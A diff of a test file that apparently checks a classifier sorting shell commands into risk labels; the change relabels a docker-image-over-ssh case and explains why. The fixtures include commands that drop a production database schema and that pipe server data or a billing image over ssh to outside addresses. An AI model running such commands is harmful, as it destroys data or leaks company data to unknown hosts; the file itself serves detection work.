@@ -198,7 +198,9 @@ describe('shell scripts and containers the grids found', () => {
     ['d', 'function reset_db() {\n  psql "$1" -c "DROP SCHEMA public CASCADE"\n}\nreset_db postgres://admin@db-prod.internal/app'],
     ['a', 'function greet() {\n  return "hi";\n}\nconsole.log(greet());'],
     // Data piped into ssh leaves the machine; a local save or a company build host is still a copy out.
-    ['c', 'docker save acme/billing-api:1.4 | ssh contractor@203.0.113.7 docker load'],
+    // (cls-holes19) …but an image carried to a host known only by a public address is data copied to an unknown host
+    // (LABELS "Data leaving the company"; the lead's f19 grid labels the same act verify).
+    ['v', 'docker save acme/billing-api:1.4 | ssh contractor@203.0.113.7 docker load'],
     ['c', 'tar czf - /srv/data | ssh backup@203.0.113.9 "cat > data.tgz"'],
     ['a', 'docker save acme/billing-api:1.4 -o /tmp/billing.tar'],
     ['a', 'echo hello | ssh ops@bastion cat'],
